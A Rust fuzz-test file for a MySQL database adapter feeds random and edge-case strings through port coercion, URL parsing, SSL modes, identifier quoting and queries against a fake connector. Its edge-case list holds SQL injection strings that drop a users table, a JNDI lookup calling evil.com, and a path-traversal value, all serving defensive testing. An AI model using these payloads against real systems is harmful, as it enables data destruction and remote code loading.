//! Black-box fuzzing of the adapter's input handling.
//!
//! Feeds random and edge-case values through option parsing, port coercion,
//! identifier quoting and the query path to make sure nothing panics.

mod common;

use common::{FakeConnector, static_options};
use db_adapter::MySqlAdapter;
use db_adapter::config::{AdapterOptions, PortValue, SslOption};
use db_adapter::db::schema::describe_table_sql;
use db_adapter::db::types::{TypeCategory, categorize_type, decode_binary_value};
use db_adapter::models::QueryParam;
use rand::Rng;
use rand::distributions::Alphanumeric;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),                       // Empty
        " ".to_string(),                     // Single space
        "\n\r\t".to_string(),                // Whitespace chars
        "\0".to_string(),                    // Null byte
        "🚀".repeat(100),                    // Unicode
        "'OR 1=1--".to_string(),             // SQL injection
        "'; DROP TABLE users--".to_string(), // SQL injection
        "`; DROP TABLE users; --".to_string(),
        "a".repeat(10000), // Very long string
        random_string(100),
        "\u{0000}\u{FFFF}".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "../../../".to_string(),
        "-1".to_string(),
        "65536".to_string(),
        "3306.5".to_string(),
        "0x0CEA".to_string(),
    ]
}

#[test]
fn fuzz_port_coercion() {
    for raw in edge_case_strings() {
        let result = PortValue::Text(raw.clone()).coerce();
        if let Ok(port) = result {
            assert_ne!(port, 0, "port 0 accepted from {:?}", raw);
        }
    }

    let mut rng = rand::thread_rng();
    for _ in 0..1000 {
        let n: i64 = rng.gen_range(-100_000..200_000);
        let numeric = PortValue::Number(n).coerce();
        let textual = PortValue::Text(n.to_string()).coerce();
        let float = PortValue::Float(n as f64).coerce();
        assert_eq!(numeric.is_ok(), textual.is_ok());
        assert_eq!(numeric.is_ok(), float.is_ok());
        assert!(PortValue::Float(n as f64 + 0.25).coerce().is_err());
        assert_eq!(numeric.is_ok(), (1..=65535).contains(&n), "port {}", n);
        if let Ok(port) = numeric {
            assert_eq!(i64::from(port), n);
        }
    }
}

#[test]
fn fuzz_port_through_construction() {
    for raw in edge_case_strings() {
        let options = static_options().with_port(raw.as_str());
        let _ = MySqlAdapter::with_connector(&options, None, FakeConnector::new());
    }
}

#[test]
fn fuzz_connection_url_parsing() {
    let mut urls: Vec<String> = edge_case_strings()
        .into_iter()
        .map(|s| format!("mysql://{}@host/db", s))
        .collect();
    urls.extend(edge_case_strings().into_iter().map(|s| format!("mysql://u@{}/db", s)));
    urls.extend(edge_case_strings().into_iter().map(|s| format!("mysql://u@h/{}", s)));
    urls.extend(
        edge_case_strings()
            .into_iter()
            .map(|s| format!("mysql://u@h/db?connection_limit={}", s)),
    );
    urls.extend(edge_case_strings());
    urls.extend(
        [
            "mysql://",
            "mysql:///db",
            "mysql://host",
            "postgres://u@h/db",
            "mysql://u@h:99999/db",
            "mysql://u@h/db?ssl=verify_identity&ssl_ca=/tmp/ca.pem",
            "mysql://u@h/db?aws_iam_auth=yes",
            "mysql://u@h/db?queue_limit=-1",
            "mysql://u@h/db?unknown=1",
        ]
        .map(String::from),
    );

    for url in urls {
        if let Ok(options) = AdapterOptions::from_url(&url) {
            assert!(!options.host.is_empty(), "empty host accepted from {}", url);
            assert!(!options.database.is_empty(), "empty database accepted from {}", url);
            let _ = options.resolve();
        }
    }
}

#[test]
fn fuzz_ssl_modes() {
    for mode in edge_case_strings() {
        for iam in [false, true] {
            let _ = SslOption::Mode(mode.clone()).to_policy(iam);
        }
    }
}

#[test]
fn fuzz_describe_table_quoting() {
    for name in edge_case_strings() {
        let sql = describe_table_sql(&name);
        assert!(sql.starts_with("DESCRIBE `"));
        // Every identifier part is closed, so backticks come in pairs.
        assert_eq!(sql.matches('`').count() % 2, 0, "unbalanced: {}", sql);
    }
}

#[test]
fn fuzz_type_categories() {
    for name in edge_case_strings() {
        let _ = categorize_type(&name);
    }
    assert_eq!(categorize_type("INT UNSIGNED"), TypeCategory::Integer);
    assert_eq!(categorize_type(&random_string(32)), TypeCategory::Unknown);
}

#[test]
fn fuzz_binary_decoding() {
    let mut rng = rand::thread_rng();
    for len in [0usize, 1, 2, 3, 17, 256, 4096] {
        let bytes: Vec<u8> = (0..len).map(|_| rng.r#gen()).collect();
        assert!(decode_binary_value(&bytes).is_string());
    }
}

#[tokio::test]
async fn fuzz_query_inputs() {
    let connector = FakeConnector::new();
    let adapter = MySqlAdapter::with_connector(&static_options(), None, connector.clone()).unwrap();

    for sql in edge_case_strings() {
        let params = vec![
            QueryParam::String(sql.clone()),
            QueryParam::Int(i64::MIN),
            QueryParam::Float(f64::NAN),
            QueryParam::Null,
        ];
        let _ = adapter.query_all(&sql, &params).await;
        let _ = adapter.query_write(&sql, &params).await;
        let _ = adapter.exec_batch(&sql).await;
    }

    assert_eq!(connector.connects(), 1);
    assert_eq!(connector.statements(), edge_case_strings().len() * 3);
}
